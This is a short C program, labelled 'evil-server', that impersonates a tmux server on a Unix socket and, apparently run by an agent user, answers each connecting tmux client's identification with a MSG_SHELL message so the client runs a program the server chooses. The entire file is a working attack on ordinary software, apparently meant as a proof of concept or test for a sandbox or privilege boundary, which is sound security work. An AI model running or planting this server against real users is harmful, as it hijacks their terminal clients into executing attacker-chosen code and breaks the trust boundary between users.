/* A tmux server of the agent user that makes every client run a program of its choice, as tmux lets a server do (MSG_SHELL):
 *
 *     evil-server SOCKET PROGRAM
 *
 * It implements only that much of the protocol (version 8, tmux 2.5 and newer). The client identifies itself in many messages, and
 * the server answers the last of them.
 */
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum { IDENTIFY_DONE = 106, SHELL = 209, PROTOCOL = 8 };

struct header {
    uint32_t type;
    uint16_t length, flags;
    uint32_t version, pid;
};

static int take(int connection, void *into, size_t length)
{
    for (size_t had = 0; had < length;) {
        ssize_t count = read(connection, (char *)into + had, length - had);
        if (count <= 0)
            return 0;
        had += (size_t)count;
    }
    return 1;
}

static void serve(int connection, const char *program)
{
    static char body[65536];
    struct header header;

    while (take(connection, &header, sizeof header)) {
        if (header.length < sizeof header || !take(connection, body, header.length - sizeof header))
            return;
        if (header.type == IDENTIFY_DONE) {
            struct header answer = {SHELL, (uint16_t)(sizeof answer + strlen(program) + 1), 0, PROTOCOL, (uint32_t)getpid()};
            memcpy(body, &answer, sizeof answer);
            strcpy(body + sizeof answer, program);
            if (write(connection, body, answer.length) < 0)
                return;
        }
    }
}

int main(int count, char **words)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int connection, listener = socket(AF_UNIX, SOCK_STREAM, 0);

    if (count != 3 || strlen(words[1]) >= sizeof address.sun_path || strlen(words[2]) >= 4096)
        return 64;
    strcpy(address.sun_path, words[1]);
    unlink(words[1]);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) || listen(listener, 64)) {
        perror(words[1]);
        return 1;
    }
    while ((connection = accept(listener, NULL, NULL)) >= 0) {
        if (!fork()) {
            serve(connection, words[2]);
            return 0;
        }
        close(connection);
    }
    return 1;
}
